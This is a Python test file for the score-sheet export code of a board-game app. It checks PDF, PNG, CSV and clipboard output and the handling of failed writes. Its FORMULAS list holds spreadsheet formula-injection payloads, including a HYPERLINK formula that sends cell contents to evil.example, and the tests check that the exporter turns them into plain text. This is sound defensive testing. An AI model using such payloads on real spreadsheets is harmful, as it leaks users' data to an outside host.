"""Results you can keep: PDF, PNG, CSV, the clipboard. Outside
input: a name is never a spreadsheet formula, and an export is written
whole or not at all, to a regular file only, saying why when it cannot."""

import csv
import errno
import io
import os
import time
from datetime import date
from pathlib import Path

import pytest
from PySide6.QtGui import QGuiApplication
from PySide6.QtWidgets import QMessageBox

from gardenapp.core.score import PlayerScore, RuleScore, ScoreSheet
from gardenapp.ui.app import build_window, make_application
from gardenapp.ui.export import render_png, sheet_csv, sheet_tsv, write_pdf

EXAMPLE = Path(__file__).resolve().parents[2] / "gardenapp/games/harmonies/examples/rulebook_full_board_side_a.json"
POSIX = pytest.mark.skipif(os.name != "posix", reason="named pipes and /dev/full are POSIX")
BOM = "\ufeff"


@pytest.fixture
def helper(qtbot):
    make_application([])
    window = build_window("en")
    qtbot.addWidget(window)
    helper = window.open_game("harmonies", "score", ask_resume=False)
    assert helper.open_path(str(EXAMPLE))
    return helper


def _export_to(helper, monkeypatch, kind: str, target: Path) -> tuple[bool, list[str]]:
    shown: list[str] = []
    monkeypatch.setattr("gardenapp.ui.scorehelper.QFileDialog.getSaveFileName", lambda *a, **k: (str(target), ""))
    monkeypatch.setattr(QMessageBox, "warning", lambda *a, **k: shown.append(a[2]))
    return helper.export(kind), shown


def test_a_scored_board_exports_as_pdf_png_csv_and_copies_as_a_table(helper, tmp_path, monkeypatch):
    page = helper.score_page()
    assert [name for name, _ in page.boards] == ["Ana", "Bruno"] and not page.boards[0][1].isNull()
    lines = sheet_csv(page.sheet, page.game_name, page.when).splitlines()
    table = lines[lines.index("") + 1 :]
    assert table[0] == "Rule,Ana,Bruno" and table[-1] == "Total,130,18" and len(table) == 2 + len(page.sheet.rules)
    pdf = tmp_path / "sheet.pdf"
    write_pdf(page, str(pdf))
    assert pdf.read_bytes().startswith(b"%PDF") and pdf.stat().st_size > 10_000
    assert pdf.read_bytes().rstrip().endswith(b"%%EOF")
    assert not render_png(page).isNull()
    helper.copy_table()
    assert QGuiApplication.clipboard().text().splitlines()[-1] == "Total\t130\t18"
    for kind in ("csv", "pdf", "png"):
        target = tmp_path / f"out.{kind}"
        ok, shown = _export_to(helper, monkeypatch, kind, target)
        assert ok and not shown and target.stat().st_size > 0
    assert (tmp_path / "out.csv").read_text(encoding="utf-8-sig").splitlines()[-1] == "Total,130,18"
    assert (tmp_path / "out.png").read_bytes().startswith(b"\x89PNG")


def test_the_csv_opens_right_in_a_spreadsheet_and_says_game_date_and_winner(helper, tmp_path, monkeypatch):
    """A UTF-8 byte-order mark (spreadsheets then read Ł and ã right), then
    the game, the date and who won, a blank line and the table."""
    target = tmp_path / "out.csv"
    assert _export_to(helper, monkeypatch, "csv", target)[0]
    raw = target.read_bytes()
    assert raw.startswith(BOM.encode("utf-8"))
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == ["Game", "Harmonies"]
    assert rows[1] == ["Date", date.today().isoformat()]
    assert rows[2] == ["Won by", "Ana"]
    assert rows[3] == [] and rows[4] == ["Rule", "Ana", "Bruno"] and rows[-1] == ["Total", "130", "18"]


def _sheet(names, points):
    players = tuple(PlayerScore(n, (RuleScore("trees", p), RuleScore("water", 1))) for n, p in zip(names, points))
    best = max(p.total for p in players)
    return ScoreSheet("harmonies", players, tuple(i for i, p in enumerate(players) if p.total == best))


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-1+1", "@SUM(A1)", "  =1+1", "\t=1", "\r=1"]


def test_a_name_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text(qapp):
    sheet = _sheet(FORMULAS + ["Łucja", "a=b"], [-2, 3, 0, 5, -7, 1, 2, 4, 6])
    rows = list(csv.reader(io.StringIO(sheet_csv(sheet, "Harmonies", date(2025, 1, 2)))))
    header = rows[rows.index([]) + 1]
    assert header[1:] == ["'" + n for n in FORMULAS] + ["Łucja", "a=b"]  # a leading ' : text, not a formula
    trees = rows[rows.index([]) + 2]
    assert trees[1:] == ["-2", "3", "0", "5", "-7", "1", "2", "4", "6"]  # a negative score stays a number
    assert rows[rows.index([]) - 1] == ["Won by", "a=b"]
    tsv = [line.split("\t") for line in sheet_tsv(sheet).splitlines()]
    assert all(len(r) == len(FORMULAS) + 3 for r in tsv)  # a tab in a name makes no new cell
    assert tsv[0][1] == "'" + FORMULAS[0] and tsv[0][4] == "'@SUM(A1)" and tsv[0][5] == "'  =1+1"
    assert tsv[0][6][0] == "'" and tsv[0][7][0] == "'" and tsv[0][8] == "Łucja"
    assert tsv[1][1:3] == ["-2", "3"] and tsv[-1][1] == "-1"


def test_the_winner_line_names_everyone_who_shares_the_win_and_nobody_without_points(qapp):
    shared = list(csv.reader(io.StringIO(sheet_csv(_sheet(["Ana", "=Bo"], [4, 4]), "Harmonies", date.today()))))
    assert shared[2] == ["Won by", "Ana", "'=Bo"]
    empty = list(csv.reader(io.StringIO(sheet_csv(_sheet(["Ana", "Bo"], [-1, -1]), "Harmonies", date.today()))))
    assert empty[2] == ["Won by"]  # no points at all: nobody won
    solo = list(csv.reader(io.StringIO(sheet_csv(_sheet(["Ana"], [4]), "Harmonies", date.today()))))
    assert solo[2] == ["Won by"]  # a solo game has a result, not a winner


@POSIX
@pytest.mark.parametrize("kind", ["pdf", "png", "csv"])
def test_an_export_to_a_link_to_dev_full_says_so_and_reports_no_success(helper, tmp_path, monkeypatch, kind):
    link = tmp_path / f"full.{kind}"
    link.symlink_to("/dev/full")
    ok, shown = _export_to(helper, monkeypatch, kind, link)
    assert not ok and len(shown) == 1 and "could not be saved" in shown[0], shown


@POSIX
@pytest.mark.parametrize("kind", ["pdf", "png", "csv"])
def test_an_export_to_a_named_pipe_returns_at_once_with_a_message(helper, tmp_path, monkeypatch, kind):
    pipe = tmp_path / f"pipe.{kind}"
    os.mkfifo(pipe)
    start = time.perf_counter()
    ok, shown = _export_to(helper, monkeypatch, kind, pipe)
    assert time.perf_counter() - start < 2
    assert not ok and len(shown) == 1 and "not a regular file" in shown[0], shown


@pytest.mark.parametrize("kind", ["pdf", "png", "csv"])
def test_a_full_disk_is_a_clear_message_and_the_old_file_stays_whole(helper, tmp_path, monkeypatch, kind):
    target = tmp_path / f"old.{kind}"
    target.write_bytes(b"the old export")

    def full(fd, data):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr("gardenapp.core.files.os.write", full)
    ok, shown = _export_to(helper, monkeypatch, kind, target)
    assert not ok and shown == ["The file could not be saved: the disk is full"]
    assert target.read_bytes() == b"the old export"
    assert [p.name for p in tmp_path.iterdir()] == [target.name]  # no temporary left behind


def test_an_export_to_a_folder_or_a_read_only_file_says_so(helper, tmp_path, monkeypatch):
    ok, shown = _export_to(helper, monkeypatch, "pdf", tmp_path)
    assert not ok and "not a regular file" in shown[0]
    locked = tmp_path / "locked.csv"
    locked.write_text("kept", encoding="utf-8")
    locked.chmod(0o444)
    ok, shown = _export_to(helper, monkeypatch, "csv", locked)
    assert not ok and "read-only" in shown[0] and locked.read_text(encoding="utf-8") == "kept"


def test_the_harmonies_sheet_shows_each_board_with_its_animal_cards(helper, tmp_path):
    """The Animals line can be checked on the sheet: each board's animal cards (and spirit) are drawn under it."""
    page = helper.pages()[0]
    assert page.cards, "the example's first player has animal cards"
    with_cards = helper.board_picture(page)
    bare = type(helper).__mro__[1].board_picture(helper, page)  # the board view alone (the base's picture)
    assert with_cards.height() * with_cards.width() > bare.height() * bare.width()
    # the room added beside or under the board is not blank: the cards are drawn there
    image = with_cards.toImage()
    if with_cards.width() > bare.width():
        strip = image.copy(bare.width(), 0, with_cards.width() - bare.width(), with_cards.height())
    else:
        strip = image.copy(0, bare.height(), with_cards.width(), with_cards.height() - bare.height())
    colours = {strip.pixel(x, y) for x in range(0, strip.width(), 7) for y in range(0, strip.height(), 7)}
    assert len(colours) > 20
    render_png(helper.score_page()).save(str(tmp_path / "sheet.png"))
